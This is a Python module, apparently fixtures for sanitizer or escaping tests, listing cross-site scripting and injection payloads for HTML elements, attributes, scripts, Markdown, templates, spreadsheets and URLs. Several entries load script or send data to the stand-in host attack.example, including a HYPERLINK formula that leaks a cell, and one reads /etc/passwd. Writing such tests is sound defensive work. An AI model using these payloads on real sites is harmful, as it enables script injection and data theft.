"""Words and addresses that would run if a page took them for markup, for script or for a link.

A payload that came to run would call ``ran()`` or ask ``attack.example``.
"""

from __future__ import annotations

ELEMENTS = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "</title></style></textarea></script><img src=x onerror=ran()>",
    "<details open ontoggle=ran()>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<input autofocus onfocus=ran()>",
    "<svg onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    '<svg><script href="data:text/javascript,ran()"/></svg>',
    "<noscript><p title=\"</noscript><img src=x onerror='ran()'>\">",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<audio src=x onerror=ran()>",
    "<script src=https://attack.example/x.js></script>",
    "<link rel=stylesheet href=https://attack.example/x.css>",
    "<style>@import 'https://attack.example/x.css'; main { display: none }</style>",
    "<style>body { background: url(https://attack.example/x.png) }</style>",
    "<embed src=https://attack.example/x>",
)
"""Elements that run, or ask somebody, as soon as they are part of a page."""

ATTRIBUTES = (
    '"><img src=x onerror="ran()">',
    "'><img src=x onerror='ran()'>",
    '" autofocus tabindex=0 onfocus=ran() x="',
    "' autofocus tabindex=0 onfocus=ran() x='",
    "x autofocus tabindex=0 onfocus=ran() x=",
)
"""Words that leave an attribute, written with either sign or with none."""

SCRIPTS = (
    "</script><script>ran()</script>",
    '";ran();//',
    "';ran();//",
    "`;ran();`${ran()}",
    "\u2028ran()//\u2029ran()//",
    "\nran()//",
    "*/ran()/*",
    "--></script><img src=x onerror=ran()><!--<script>",
    '"}],"entries":[["</script><script>ran()</script>"]]',
)
"""Words that leave a text of a script, or the script element."""

MARKDOWN = (
    "[x](javascript:ran())",
    "![x](https://attack.example/x.png)",
    "<javascript:ran()>",
    "[x]\n\n[x]: javascript:ran()",
    "x {: onmouseover=ran() style=position:fixed }",
    "# x\n\n    code\n\n```html\n</code></pre><script>ran()</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=ran()> |",
    "<!-- --><img src=x onerror=ran()>",
    "---\ntitle: <script>ran()</script>\n---\n",
)
"""Words that mean something to Markdown."""

OTHERS = (
    "{{ ran() }}{% raw %}{# ran() #}#{ran()}",
    "$& $` $' $1 $<x><img src=x onerror=ran()>",
    '\\";ran();//',
    '<math><mtext><table><mglyph><style><img src=x onerror="ran()"></style></mglyph></table>',
    "__proto__",
    "constructor",
    "&lt;img src=x onerror=ran()&gt;&#60;script&#62;ran()&#60;/script&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "<\u017fcript>ran()</\u017fcript><\u0130mg src=x onerror=ran()>",
    "<scr\u0000ipt>ran()</scr\u0000ipt>\u0007\ud800",
    "\u202e>gmi<\u202c\u2066<img src=x onerror=ran()>\u2069",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "x;background:url(https://attack.example/x);}*{background:url(https://attack.example/x)}",
    '=HYPERLINK("https://attack.example/?"&A1)',
    "+ran()",
    "-2+3",
    "@SUM(1)",
)
"""Templates, replacements, names of JavaScript, disguises, style sheets and spreadsheets."""

TEXTS = (*ELEMENTS, *ATTRIBUTES, *SCRIPTS, *MARKDOWN, *OTHERS)
BREAKERS = " ".join((*ATTRIBUTES[:2], ELEMENTS[0], ELEMENTS[1], *SCRIPTS[:5], MARKDOWN[0]))
"""What leaves any place, in one text."""

ADDRESSES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    " javascript:ran()",
    "java\tscript:ran()",
    "java\nscript:ran()",
    "\u0001javascript:ran()",
    "javascript://example.org/%0aran()",
    "https:javascript:ran()",
    "doi:javascript:ran()",
    "https://doi.org/javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>",
    "vbscript:ran()",
    "file:///etc/passwd",
    "//attack.example/x",
    "https://user:password@attack.example/",
    'https://attack.example/"onmouseover="ran()',
    "https://attack.example/'autofocus onfocus='ran()",
    "https://attack.example/<script>ran()</script>",
    "https://attack.example/](javascript:ran())",
    'doi:10.1000/"><script>ran()</script>',
    "10.1000/'><img src=x onerror=ran()>",
    "mailto:a@attack.example?bcc=b@attack.example&body=<script>ran()</script>",
    'mailto:"><img/src=x/onerror=ran()>@attack.example',
)
"""IRIs that would run, or leave the attribute they stand in, or lead where nobody would look."""
